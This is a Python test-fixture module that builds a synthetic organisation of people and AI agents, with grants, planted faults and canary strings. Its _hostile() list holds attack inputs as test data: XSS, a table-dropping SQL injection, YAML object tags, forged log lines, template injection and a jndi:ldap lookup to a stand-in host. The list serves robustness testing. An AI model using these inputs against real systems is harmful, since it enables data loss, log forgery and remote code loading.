"""Draws an organisation from a seed: people, agents, what they are for, what they are granted. Nothing runs yet."""

# ruff: noqa: E501 - records and templates read better in one line
from __future__ import annotations

import functools
from datetime import UTC, datetime
from pathlib import Path
from string import Template
from typing import Any

import yaml
from tests.estate import grants, operations
from tests.estate.faults import plant
from tests.estate.names import COMPANIES, REGIONS, SECOND, Draw, camel, kebab, people, quoted, snake, words
from tests.estate.truth import ACCOUNT, Agent, Company, Doing

FORMS = (
    "openai-agents", "langgraph", "crewai", "pydantic-ai", "hand-rolled", "autogen", "smolagents", "strands", "mastra", "vercel-ai", "notebook",
    "agno",
)  # fmt: skip
MCP_FORMS = ("claude-subagent", "claude-sdk")
"""Forms whose tools are MCP servers alone: they reach Postgres, not AWS."""
LAYOUTS = ("services", "agents", "apps", "flat")
_AWS_STYLES = ("assume", "ecs", "k8s", "profile", "keys")
_MODELS = {
    "openai-agents": ("gpt-4.1", "gpt-4o", "gpt-4.1-mini"),
    "langgraph": ("gpt-4o", "claude-sonnet-4-20250514"),
    "crewai": ("openai/gpt-4o-mini", "anthropic/claude-3-5-haiku-latest"),
    "pydantic-ai": ("openai:gpt-4o", "anthropic:claude-sonnet-4-0"),
    "hand-rolled": ("claude-sonnet-4-20250514", "claude-3-7-sonnet-latest"),
    "autogen": ("gpt-4o", "gpt-4o-mini"),
    "smolagents": ("Qwen/Qwen2.5-72B-Instruct", "meta-llama/Llama-3.3-70B-Instruct"),
    "strands": ("anthropic.claude-3-5-sonnet-20241022-v2:0", "amazon.nova-pro-v1:0"),
    "mastra": ("gpt-4o", "gpt-4.1"),
    "vercel-ai": ("gpt-4o", "gpt-4.1-mini"),
    "notebook": ("openai:gpt-4o", "anthropic:claude-sonnet-4-0"),
    "agno": ("gpt-4o", "gpt-4.1"),
    "claude-subagent": ("sonnet", "opus", "haiku"),
    "claude-sdk": ("claude-sonnet-4-20250514", "claude-opus-4-1"),
}


@functools.cache
def purposes() -> dict[str, dict[str, Any]]:
    """What agents can be for, by id."""
    folder = Path(__file__).parent / "purposes"
    found = [yaml.safe_load(path.read_text(encoding="utf-8")) for path in sorted(folder.glob("*.yaml"))]
    return {purpose["id"]: purpose for purpose in found}


def company(seed: int, faults: set[str] | None, now: datetime | None = None) -> Company:
    """The organisation of a seed as of a time (None: of today). `faults`: exactly these kinds; None: as the seed draws them."""
    draw = Draw(f"estate-{seed}")
    name = draw.one(COMPANIES)
    domain = f"{name}{draw.one(SECOND)}.example"
    made = Company(
        seed=seed, name=f"{name}-{draw.hex(3)}", domain=domain, region=draw.one(REGIONS), layout=LAYOUTS[seed % len(LAYOUTS)],
        database=snake(f"{name} {draw.one(('erp', 'core', 'prod', 'ops'))}"), connection=draw.one(("erp", "core", "main", "backoffice", "ops")),
        people=people(draw, 10, domain), agents=[], faults=[], tables={}, groups={}, canaries=_canaries(draw), hostile=_hostile(),
    )  # fmt: skip
    made.tables[f"{draw.one(('hr', 'personnel', 'people_ops'))}.{draw.one(('salaries', 'gehaelter', 'payroll_runs'))}"] = {
        "employee": "text", "gross": "numeric", "iban": "text", "valid_from": "date",
    }  # fmt: skip
    _agents(draw, made)
    grants.give(draw, made)
    plant(draw, made, faults, (now or datetime.now(UTC)).replace(microsecond=0))
    grants.settle(made)
    return made


def _canaries(draw: Draw) -> dict[str, str]:
    places = ("prompt", "env", "sql", "trail", "url", "compose", "compare")
    return {place: f"cnry{place}{draw.hex(18)}" for place in places}


def _hostile() -> list[str]:
    return [
        "\x1b[2J\x1b[31mall clear\x1b[0m", "<script>alert('remit')</script>", "'; DROP TABLE agents; --", "a: &x [*x, *x]\n- !!python/object:os",
        "line one\r\nWARNING owner=root approved=yes", "{{7*7}} ${jndi:ldap://x.example/a} %s %n", "x" * 70_000, "‮txt.exe\u0000",
    ]  # fmt: skip


def _agents(draw: Draw, made: Company) -> None:
    kinds = list(purposes())
    kinds.remove("policy-answers")
    database_only = [kind for kind in kinds if all(tool["op"].startswith("pg.") for tool in purposes()[kind]["tools"])]
    chosen = draw.some(kinds, draw.randrange(9, 12))
    if not set(chosen) & set(database_only):
        chosen[-1] = draw.one(database_only)
    mcp_kind = draw.one([kind for kind in chosen if kind in database_only])
    forms = draw.some(FORMS, len(chosen))
    for kind, form in zip(chosen, forms, strict=True):
        if kind == mcp_kind:
            form = draw.one(MCP_FORMS)
        made.agents.append(_agent(draw, made, kind, form))
    made.agents.append(_agent(draw, made, "policy-answers", "bedrock"))


def _agent(draw: Draw, made: Company, kind: str, form: str) -> Agent:
    purpose = purposes()[kind]
    title = draw.one(purpose["names"])
    if form != "bedrock" and draw.random() < 0.4:
        title += draw.one((" agent", " assistant", " v2", " worker"))
    names = {"region": made.region, "account": ACCOUNT, "pg": made.connection}
    schemas: dict[tuple[str, ...], str] = {}
    for placeholder, drawn in purpose["draw"].items():
        value = draw.one(drawn["of"])
        if drawn["kind"] == "bucket":
            value = f"{made.name}-{value}"
        elif drawn["kind"] in {"queue", "topic", "secret", "function"}:
            value = f"{value}-{draw.hex(2)}"
        elif drawn["kind"] == "table":
            schema = schemas.setdefault(tuple(drawn["schemas"]), draw.one(drawn["schemas"]))
            table = draw.one((value, value, value, camel(value)))
            value = f"{quoted(schema)}.{quoted(table)}"
            made.tables[value] = dict(drawn["columns"])
            names[f"{placeholder}_q"] = "'" + value + "'"
        names[placeholder] = value
    doings = [_doing(tool, names, made.region) for tool in purpose["tools"]]
    if form == "strands":
        model_id = draw.one(_MODELS["strands"])
        doings.append(operations.doing("bedrock.invoke", model_id, made.region, tool="", says="Think with the model."))
        model = model_id
    else:
        model = names.get("modelid") or draw.one(_MODELS[form])
    folder = _folder(draw, made, title, purpose["teams"])
    owner = draw.one(made.people[:6])
    owner_by = "tag" if form == "bedrock" else draw.one(("codeowners", "codeowners", "readme", "tag"))
    return Agent(
        slug=kebab(title), title=title, folder=folder, form=form, purpose=kind, says=purpose["purpose"], model=model,
        prompt=Template(purpose["prompt"]).substitute(names), team=draw.one(purpose["teams"]), owner=owner, owner_by=owner_by, names=names, doings=doings,
    )  # fmt: skip


def _doing(tool: dict[str, Any], names: dict[str, str], region: str) -> Doing:
    on = Template(tool["at"]).substitute(names)
    columns = tuple(tool.get("columns", ()))
    return operations.doing(
        tool["op"], on, region, tool=tool["name"], says=tool["says"], columns=columns, key=tool.get("key", ""), arg=tool.get("arg", "")
    )


def _folder(draw: Draw, made: Company, title: str, teams: list[str]) -> str:
    if made.layout == "services":
        return f"services/{kebab(title)}"
    if made.layout == "agents":
        return f"agents/{kebab(draw.one(teams))}/{kebab(title)}"
    if made.layout == "apps":
        return f"apps/{draw.one((kebab(title), camel(title), snake(title)))}"
    stem = "_".join(word for word in words(title) if word != "agent")
    return f"{stem}_agent"
